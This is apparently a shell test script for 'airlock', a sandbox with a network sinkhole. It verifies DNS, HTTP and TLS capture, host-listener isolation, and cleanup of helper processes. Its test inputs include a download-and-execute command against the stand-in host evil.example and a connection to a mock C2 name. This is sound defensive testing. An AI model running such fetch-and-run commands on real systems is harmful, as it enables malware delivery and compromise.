#!/bin/sh
# airlock run --trace --net sinkhole: names resolve to loopback inside the sandbox's own network
# namespace, connections to any address land on capturing listeners (HTTP request line and
# Host, TLS SNI), a download then execute gives T1105, and nothing reaches a host listener.
. "$AIRLOCK_SRC/tests/lib.sh"
. "$AIRLOCK_SRC/tests/helpers/monitor/trace-lib.sh"

mkdir -p "$SAMPLES"
cat >"$SAMPLES/tls.py" <<'PY'
import socket, ssl, sys
s = socket.create_connection((sys.argv[1], 443), timeout=5)
try:
    ssl.create_default_context().wrap_socket(s, server_hostname=sys.argv[1])
except Exception:
    pass
PY
chmod -R a+rX "$SAMPLES"

# a host listener the sandbox must not reach, whatever address it uses
host_listener_start || { fail "host listener" "did not start"; exit 1; }

trace dl --net sinkhole -- /bin/sh -c "curl -s -m 5 -o /tmp/p http://evil.example/stage2; \
        chmod +x /tmp/p; /tmp/p; curl -s -m 3 http://127.0.0.1:$port/ >/dev/null; true"
got=$(jq_py dl "any(n['kind'] == 'dns' and n['name'] == 'evil.example' for n in r['network'])")
[ "$got" = True ] && pass "sinkhole: DNS name recorded" ||
        fail "sinkhole: DNS name recorded" "$(jq_py dl "r['network']") $(head -c 300 "$TEST_TMPDIR/dl.out")"
got=$(jq_py dl "[(n['request'], n['name']) for n in r['network'] if n['kind'] == 'http'][:1]")
[ "$got" = "[('GET /stage2 HTTP/1.1', 'evil.example')]" ] && pass "sinkhole: HTTP request line and Host" ||
        fail "sinkhole: HTTP request line and Host" "got $got"
expect_finding dl T1105 high
expect_finding dl T1222.002

trace tls --net sinkhole -- /usr/bin/python3 /opt/samples/tls.py c2.example.net
got=$(jq_py tls "[(n['name'], n['address'], n['port']) for n in r['network'] if n['kind'] == 'tls']")
[ "$got" = "[('c2.example.net', '127.0.0.1', 443)]" ] && pass "sinkhole: TLS SNI" ||
        fail "sinkhole: TLS SNI" "got $got; $(head -c 300 "$TEST_TMPDIR/tls.out")"

# any address: a connection to a public address lands on the sinkhole, not the internet
trace anyip --net sinkhole -- /usr/bin/python3 -c "
import socket
s = socket.create_connection(('198.51.100.7', 8080), timeout=3)
s.sendall(b'HELLO')
s.close()"
got=$(jq_py anyip "[(n['kind'], n['address'], n['port'], n['first_bytes']) for n in r['network']]")
[ "$got" = "[('tcp', '198.51.100.7', 8080, 'HELLO')]" ] && pass "sinkhole: connection to any address captured" ||
        fail "sinkhole: connection to any address captured" "got $got; $(head -c 300 "$TEST_TMPDIR/anyip.out")"

# --trace-exec-only (what a page's browser runs under): the sinkhole records as before, the
# monitor hears of execs only, and the report says so.
trace execonly --net sinkhole --trace-exec-only -- /bin/sh -c \
        "curl -s -m 5 http://exec-only.example/x; cat /etc/hostname >/dev/null; true"
got=$(jq_py execonly "[(n['request'], n['name']) for n in r['network'] if n['kind'] == 'http'][:1]")
expect_eq "sinkhole with --trace-exec-only: HTTP request line and Host" \
        "[('GET /x HTTP/1.1', 'exec-only.example')]" "$got"
got=$(jq_py execonly "(sorted(set(e['syscall'] for e in r['events'])), [e['args']['path'] for e in r['events']], r['trace'].get('exec_only'))")
expect_eq "--trace-exec-only: execs only in the events, marked in the report" \
        "(['execve'], ['/bin/sh', '/usr/bin/curl', '/usr/bin/cat'], True)" "$got"

host_listener_stop
[ "$hits" = 0 ] && pass "sinkhole: host listener on 127.0.0.1:$port got no connection" ||
        fail "sinkhole: host listener on 127.0.0.1:$port got no connection" "$hits connections"

# The sinkhole's helper ends with its supervisor, even one killed outright: its change of user
# once cleared the parent-death signal, and a helper was found idle an hour after its
# supervisor had been killed.
"$AIRLOCK" run --net sinkhole -- sleep 30 >/dev/null 2>&1 &
sup=$!
kids=""
for _ in $(seq 50); do
        kids=$(pgrep -P "$sup" | tr '\n' ' ')
        [ "$(echo $kids | wc -w)" -ge 2 ] && break
        sleep 0.1
done
if [ "$(echo $kids | wc -w)" -lt 2 ]; then
        fail "sinkhole: helper and sandbox under the supervisor" "children: '$kids'"
        kill -9 "$sup" 2>/dev/null
else
        kill -9 "$sup"
        wait "$sup" 2>/dev/null
        left=""
        for _ in $(seq 30); do
                left=""
                for k in $kids; do
                        st=$(sed 's/.*) //' "/proc/$k/stat" 2>/dev/null | cut -d' ' -f1)
                        [ -n "$st" ] && [ "$st" != Z ] && left="$left $k"
                done
                [ -z "$left" ] && break
                sleep 0.1
        done
        expect_eq "sinkhole: helper and sandbox end when the supervisor is killed" "" "$left"
        for k in $left; do kill -9 "$k" 2>/dev/null; done
fi
